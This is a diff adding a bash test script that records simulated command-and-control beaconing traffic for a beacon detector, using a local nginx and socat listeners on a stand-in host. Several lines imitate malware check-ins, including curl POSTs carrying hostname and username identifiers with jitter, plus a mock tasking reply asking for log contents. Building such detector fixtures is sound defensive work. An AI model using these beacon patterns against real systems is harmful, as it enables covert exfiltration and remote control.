@@ -1,0 +1,72 @@
+#!/usr/bin/env bash
+# Captures of clients that call home, a hundred times faster than they would.  Usage: [OUTPUT-DIR [SCENARIO...]]
+. "$(dirname "$0")/long.sh"
+DETECTOR=beacon
+
+beats() { # COUNT LEAST MOST COMMAND... : it runs so often, with a pause between these seconds after each
+    local n count=$1 least=$2 most=$3; shift 3
+    for n in $(seq "$count"); do
+        BEAT=$n "$@"
+        sleep "$(awk -v a="$least" -v b="$most" -v r=$RANDOM 'BEGIN { print a + (b - a) * r / 32767 }')"
+    done
+}
+server_up() { # an nginx on out that answers `idle`, and a longer task where it has one; http and https
+    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 3650 -subj /CN=out.example.test \
+        -keyout "$W/out.key" -out "$W/out.crt" 2>/dev/null
+    cat >"$W/out.conf" <<END
+daemon off; master_process off; user root; pid $W/out.pid; error_log $W/out.err;
+events { worker_connections 64; }
+http {
+    access_log off; default_type text/plain; client_body_temp_path $W/o1; proxy_temp_path $W/o2;
+    fastcgi_temp_path $W/o3; uwsgi_temp_path $W/o4; scgi_temp_path $W/o5;
+    ssl_certificate $W/out.crt; ssl_certificate_key $W/out.key;
+    server {
+        listen 80; listen 443 ssl;
+        location / { return 200 "idle\n"; }
+        location /task { return 200 "run: the name of this host, and what is in its directory of logs, and send it here\n"; }
+    }
+}
+END
+    spawn out nginx -e stderr -p "$W" -c "$W/out.conf"; up out 443
+}
+page() { if [ $((BEAT % 7)) = 0 ]; then echo task; else echo beat; fi; }
+posts() { on cli curl -q -s -k -o /dev/null -m 5 -d "id=0c1f2a&n=$BEAT&host=workstation-17&user=somebody&pad=$(printf '%0120d' 0)" "$1/$(page)" || true; }
+line_server() { spawn out socat "TCP-LISTEN:$1,fork,reuseaddr" "SYSTEM:'read line; echo ok'"; up out "$1"; }
+says() { printf 'beat %04d from workstation-17 as somebody\n' "$BEAT" | on cli timeout 5 socat - "TCP:$OUT:$1" >/dev/null || true; }
+
+hit_http_jitter() { # HTTP posts with jitter of 20 %, a task now and then
+    net_up; web_up; server_up
+    record; looks_up_only; beats 22 0.4 0.6 posts http://$OUT; save; stretch 100 0.05
+}
+looks_up_only() { curl_ cli http://web.example.test/; curl_ rly http://web.example.test/; }
+
+hit_https_jitter() { # HTTPS to an address that nobody looked up, jitter of 40 %
+    net_up; web_up; server_up
+    record; looks_up_only; beats 22 0.3 0.7 posts https://$OUT; save; stretch 100 0.05
+}
+
+hit_raw_clock() { # a line each time, at an odd port, like a clock
+    net_up; web_up; line_server 4466
+    record; looks_up_only; beats 14 0.5 0.5 says 4466; save; stretch 100 0.05
+}
+
+hit_raw_missing_beats() { # the same with beats that are missing
+    net_up; web_up; line_server 4466
+    record; looks_up_only
+    beats 6 0.5 0.5 says 4466; sleep 0.5; beats 4 0.5 0.5 says 4466; sleep 1; beats 6 0.5 0.5 says 4466
+    save; stretch 100 0.05
+}
+
+
+hit_session_raw() { # one session at an odd port, a line every two seconds that comes back
+    net_up; spawn out socat TCP-LISTEN:4455,fork,reuseaddr EXEC:cat; up out 4455
+    record; lines 12 2 | on cli timeout 40 socat - TCP:$OUT:4455 >/dev/null; save; stretch 30
+}
+lines() { local n; for n in $(seq "$1"); do sleep "$2"; printf 'alive %04d from workstation-17\n' "$n"; done; sleep 0.5; }
+
+hit_session_tls() { # one TLS session to an address that nobody looked up, a line every two seconds
+    net_up; web_up; server_up; spawn out socat OPENSSL-LISTEN:8443,fork,reuseaddr,cert="$W/out.crt",key="$W/out.key",verify=0 EXEC:cat; up out 8443
+    record; looks_up_only; lines 12 2 | on cli timeout 40 openssl s_client -quiet -connect $OUT:8443 >/dev/null 2>&1 || true; save; stretch 30
+}
+
+scenarios "$@"
